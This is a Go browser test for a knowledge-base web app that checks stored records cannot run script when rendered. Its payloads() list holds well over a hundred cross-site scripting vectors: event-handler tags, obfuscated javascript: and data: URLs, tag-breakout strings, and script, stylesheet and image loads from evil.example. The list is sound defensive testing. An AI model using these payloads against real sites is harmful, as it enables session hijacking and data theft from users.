package app_test

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/hindcast-kb/hindcast/internal/app/apptest"
	"github.com/hindcast-kb/hindcast/internal/vocab"
)

// payloads are texts that would run, ask or show something if a page believed them.
func payloads() []string {
	const run = "window.owned=1"
	var all []string
	for _, tag := range []string{"img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x", "marquee", "form", "math", "style", "isindex type=image src=1"} {
		for _, event := range []string{"onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart"} {
			all = append(all, "<"+tag+" "+event+"="+run+">")
		}
	}
	for _, scheme := range []string{
		"javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "\x01javascript:", "vbscript:", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>alert(1)</script>", "blob:x", "//evil.example/x",
	} {
		all = append(all, "["+"x]("+scheme+run+")", "!["+"x]("+scheme+run+")", "<a href=\""+scheme+run+"\">x</a>", "<"+scheme+run+">", "[x]: "+scheme+run+"\n\n[x]")
	}
	return append(all,
		"<script>"+run+"</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
		`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
		`</svg><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `--><script>alert(1)</script>`, `" onmouseover="alert(1)`, `' autofocus onfocus='alert(1)`,
		"{{.}} {{template \"x\"}} ${alert(1)} #{alert(1)} <%= 1 %>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
		"<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<img src=//evil.example/x.png>", "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)",
		"<picture><source srcset=//evil.example/x><img></picture>", "<input type=image src=//evil.example/x>", "<video poster=//evil.example/x>", "<table background=//evil.example/x>",
		"<svg><image href=//evil.example/x /></svg>", "<svg><use href=//evil.example/x#y /></svg>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
		"<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
		"`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "<!--<img src=x onerror=alert(1)>-->", "<div style=background:url(//evil.example/x)>", "<button formaction=javascript:alert(1)>x</button>",
		"\u2028<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<mark><img src=x onerror=alert(1)></mark>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
		"<a href=x ping=//evil.example/>x</a>", "<embed src=//evil.example/x>", "<frameset onload=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E",
		"FND-1<img src=x onerror=alert(1)>", "<x contenteditable onblur=alert(1)>lose focus</x>", "<dialog open onclose=alert(1)>", "<slot onslotchange=alert(1)>")
}

// inert says what on the page came from a payload and is more than text.
const inert = `[...document.querySelectorAll("*")].filter(e => e.matches("main script, main style, main iframe, main object, main embed, main base, main meta, main link, main img, main video, main audio, main form, main input, main button:not(.copy), main textarea, main template, main marquee, svg script, svg image, svg use, foreignObject, frameset")
	|| [...e.attributes].some(a => a.name.startsWith("on") || a.name === "style" || a.name === "srcset" || a.name === "ping" || (["href", "src", "action", "formaction", "xlink:href"].includes(a.name) && !/^(https?:|mailto:|\/|#|\?|$)/i.test(a.value.trim()) && !/^[\w.%-]+$/.test(a.value))))
	.map(e => e.outerHTML.slice(0, 150)).concat(window.owned ? ["a payload ran"] : []).slice(0, 5).join("\n")`

func TestBrowserRunsNothingThatRecordsSay(t *testing.T) {
	t.Parallel()
	c := newChrome(t, onSQLite(t))
	all := payloads()
	if len(all) < 150 {
		t.Fatalf("%d payloads are too few", len(all))
	}
	paths := hostile(t, c.s, all)
	c.signIn()
	for _, path := range paths {
		c.open(path)
		c.do(chromedp.Sleep(20 * time.Millisecond))
		if found := ask[string](c, inert); found != "" {
			t.Errorf("%s: %s", path, found)
		}
		if ask[int](c, `document.querySelectorAll("h1").length`) != 1 {
			t.Errorf("%s is torn", path)
		}
		c.quiet(path)
	}
	for _, path := range hostileViews(t, c.s, paths) {
		c.open(path)
		c.do(chromedp.Sleep(20 * time.Millisecond))
		if found := ask[string](c, strings.ReplaceAll(inert, "main ", "article ")); found != "" {
			t.Errorf("%s: %s", path, found)
		}
		if ask[int](c, `document.querySelectorAll("article").length`) != 1 {
			t.Errorf("%s is torn", path)
		}
		c.quiet(path)
	}
	c.open("/attempts/ATT-2")
	if ask[int](c, `document.body.textContent.split("<script>window.owned=1</script>").length`) < 2 {
		t.Error("the payloads are not on the page, so that nothing was tried")
	}
	c.open("/lessons/" + benign(t, c.s))
	for _, selector := range []string{"strong", "em", "code", "ul li", "table td", "a[href='https://example.com/']", "blockquote", "del"} {
		if ask[int](c, fmt.Sprintf(`document.querySelectorAll("main dd %s").length`, strings.ReplaceAll(selector, `"`, `\"`))) == 0 {
			t.Errorf("benign formatting is lost: %s", selector)
		}
	}
}

// benign makes a lesson with ordinary formatting.
func benign(t *testing.T, s *apptest.Server) string {
	t.Helper()
	return s.Must(t, 201, "POST", "/api/v1/lessons", map[string]any{
		"title": "Benign", "when": "**bold** *soft* `code` ~~gone~~ [link](https://example.com/)", "applies_to": map[string]any{}, "tags": []string{},
		"then": "- one\n- two\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
	}).Text("id")
}

// hostile writes every payload into every field that takes text, and gives the pages that show them.
func hostile(t *testing.T, s *apptest.Server, all []string) []string {
	t.Helper()
	long, short := strings.Join(all, "\n\n"), func(i, n int) string {
		text := []rune(all[i%len(all)])
		return strings.ReplaceAll(string(text[:min(n, len(text))]), "\n", " ")
	}
	add := func(path string, body map[string]any) string {
		got := s.Call(t, "POST", "/api/v1/"+path, body)
		if got.Status == 422 { // some payloads are refused at the door
			return ""
		}
		if got.Status != 201 {
			t.Fatalf("%s = %d: %s", path, got.Status, got.Raw)
		}
		return got.Text("id")
	}
	paths := []string{"/", "/search?limit=200&type=finding", "/search?q=script&limit=200", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/attempts/ATT-3", "/attempts/ATT-2", "/upgrades/UPG-1", "/services/SVC-1", "/environments/ENV-2", "/analytics"}
	shown := func(path, id string) {
		if id != "" {
			paths = append(paths, "/"+path+"/"+id)
		}
	}
	for i := range all {
		tags := []string{short(i, 100)}
		id := add("findings", map[string]any{"title": short(i, 200), "severity": "high", "attempt_id": "ATT-2", "service_id": "SVC-1", "component": short(i+1, 200), "observed": all[i], "expected": all[i], "workaround": all[i], "tags": tags, "attribution": "caused_by_change"})
		if i%10 == 0 {
			shown("findings", id)
		}
		add("attempts/ATT-2/events", map[string]any{"occurred_at": "2026-02-21T08:00:00Z", "kind": "signal", "text": all[i], "source": short(i, 200)})
		add("assumptions", map[string]any{"statement": all[i], "attempt_id": "ATT-3", "importance": "blocking", "environment_id": "ENV-1", "falsified_if": all[i], "owner": short(i, 120), "areas": tags, "tags": tags})
		if i%30 == 0 {
			shown("incidents", add("incidents", map[string]any{"title": short(i, 200), "severity": "high", "impact": long, "service_id": "SVC-1", "attempt_id": "ATT-2", "tags": tags}))
			shown("lessons", add("lessons", map[string]any{"title": short(i, 200), "when": long, "then": long, "because": long, "check": long, "success_criterion": long, "applies_to": map[string]any{"tags": tags, "areas": tags}, "tags": tags}))
			shown("decisions", add("decisions", map[string]any{"kind": "other", "attempt_id": "ATT-2", "question": short(i, 200), "chosen": short(i, 200), "rationale": long, "dissent": long, "decided_by": short(i, 120), "tags": tags,
				"options": []any{map[string]any{"name": short(i, 200), "for": all[i], "against": all[i]}}}))
			shown("reviews", add("reviews", map[string]any{"title": short(i, 200), "summary": long, "impact": long, "went_well": long, "went_poorly": long, "lucky": long, "body": long, "attempt_ids": []string{"ATT-2"}, "incident_ids": []string{}, "participants": tags,
				"contributing_factors": []any{map[string]any{"category": short(i, 100), "text": long, "refs": []string{}}}, "tags": tags}))
			shown("runbooks", add("runbooks", map[string]any{"title": short(i, 200), "url": "https://example.com/?" + "x=%22%3E%3Cscript%3E", "areas": tags, "alert_names": tags, "tags": tags, "service_id": "SVC-1"}))
			shown("services", add("services", map[string]any{"name": short(i, 120), "description": long, "owner_team": short(i, 120), "tier": short(i, 100), "catalog_ref": short(i, 200)}))
			shown("upgrades", add("upgrades", map[string]any{"title": short(i, 200), "kind": "framework", "service_id": "SVC-1", "goal": long, "from_version": short(i, 100), "to_version": short(i, 100), "tags": tags}))
			shown("actions", add("actions", map[string]any{"title": short(i, 200), "done_criterion": long, "owner": short(i, 120), "tags": tags}))
			shown("references", add("references", map[string]any{"target": "ATT-2", "kind": "wiki", "url": "https://example.com/?%22onclick=alert(1)", "title": short(i, 200), "role": short(i, 120)}))
			shown("environments", add("environments", map[string]any{"name": short(i, 120), "kind": "test", "parity_target_id": "ENV-1"}))
			shown("evidence", add("assumptions/ASM-1/evidence", map[string]any{"result": "supports", "environment_id": "ENV-2", "observed_at": "2026-02-21T08:00:00Z", "summary": long, "method": short(i, 200), "url": "https://example.com/%22%3E"}))
			shown("tripwires", add("attempts/ATT-3/tripwires", map[string]any{"signal": short(i, 200), "comparator": "gt", "threshold": 1, "then": "rollback", "agreed_by": short(i, 200)}))
			shown("attempts", add("attempts", map[string]any{"upgrade_id": "UPG-1", "environment_id": "ENV-1", "strategy": long, "outcome_summary": long, "release_ref": short(i, 200), "changed_areas": tags, "tags": tags}))
		}
	}
	names, values := map[string]any{}, map[string]any{}
	for i := range all {
		name := "setting/" + strconv.Itoa(i) + strings.ReplaceAll(short(i, 60), "/", "")
		names[name], values[name] = map[string]any{"value": all[i]}, map[string]any{"value": "none"}
	}
	add("environments/ENV-1/snapshots", map[string]any{"captured_at": s.Clock.Now(), "kind": "settings", "tool": short(3, 60), "items": names})
	add("environments/ENV-2/snapshots", map[string]any{"captured_at": s.Clock.Now(), "kind": "settings", "tool": short(3, 60), "items": values})
	add("environments/ENV-1/drift/ignores", map[string]any{"pattern": "setting/0*", "reason": short(4, 200)})
	return append(paths, "/assumptions/ASM-1", "/attempts/ATT-2/draft", hostileDrift)
}

// hostileDrift compares environments whose names, values and tools are payloads.
const hostileDrift = "/environments/ENV-1/drift?target=ENV-2&kind=settings"

// hostileViews shares the records of the pages, what a search finds and a comparison.
func hostileViews(t *testing.T, s *apptest.Server, pages []string) []string {
	t.Helper()
	targets, seen := []string{"search:script", "drift:ENV-1..ENV-2?kind=settings"}, map[string]bool{}
	for _, page := range pages {
		id := page[strings.LastIndex(page, "/")+1:]
		prefix, _, numbered := strings.Cut(id, "-")
		if _, err := vocab.ParseID(id); err != nil || !numbered || seen[prefix] || !slices.Contains([]string{"FND", "INC", "LES", "DEC", "REV", "RBK", "SVC", "UPG", "ACT", "ATT", "ASM"}, prefix) {
			continue
		}
		seen[prefix] = true
		targets = append(targets, id)
	}
	if len(targets) < 12 {
		t.Fatalf("%v are not all kinds", targets)
	}
	var views []string
	for _, target := range targets {
		_, path := share(t, s, map[string]any{"target": target, "allowed_origins": []string{wiki}})
		views = append(views, path)
	}
	return views
}
